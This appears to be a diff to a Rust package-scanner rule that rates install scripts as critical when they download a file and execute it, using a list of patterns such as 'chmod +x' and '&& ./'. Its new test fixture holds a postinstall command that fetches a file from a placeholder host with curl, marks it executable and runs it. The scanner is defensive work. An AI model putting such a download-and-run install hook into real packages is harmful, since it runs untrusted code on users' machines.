@@ -30,7 +30,20 @@ diligence_finding::declare_rule! {
 /// One finding per networked lifecycle command.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     per_signal(p, Kind::ShellNetwork, |f, s| {
-        let piped = f.of(Kind::ShellPipeExec).any(|x| x.line == s.line);
+        let lower = s.detail.to_ascii_lowercase();
+        let runs_download = [
+            "chmod +x",
+            "chmod 755",
+            "chmod 777",
+            "&& ./",
+            "; ./",
+            "&& sh ",
+            "&& bash ",
+            "start /b",
+        ]
+        .iter()
+        .any(|p| lower.contains(p));
+        let piped = runs_download || f.of(Kind::ShellPipeExec).any(|x| x.line == s.line);
         let host = f.of(Kind::ShellHostInfo).any(|x| x.line == s.line);
         let sev = if piped || host {
             Severity::Critical
@@ -38,7 +51,7 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             INSTALL_SCRIPT_NETWORK.default_severity
         };
         let what = match (piped, host) {
-            (true, _) => "downloads and pipes into a shell",
+            (true, _) => "downloads and runs what it fetched",
             (_, true) => "sends user/host details over the network",
             _ => "contacts the network",
         };
@@ -84,5 +97,18 @@ mod tests {
             "{\"name\":\"t\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}",
         )]);
         assert!(hits(&s, "code/install-script-network").is_empty());
+    }
+
+    #[test]
+    fn download_chmod_run_is_critical() {
+        let s = scan(&[(
+            "package.json",
+            "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"curl -so x https://d.example.net/x && chmod +x x && ./x\"}}",
+        )]);
+        assert_eq!(
+            hits(&s, "code/install-script-network"),
+            vec![("package.json".to_string(), 1)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 }
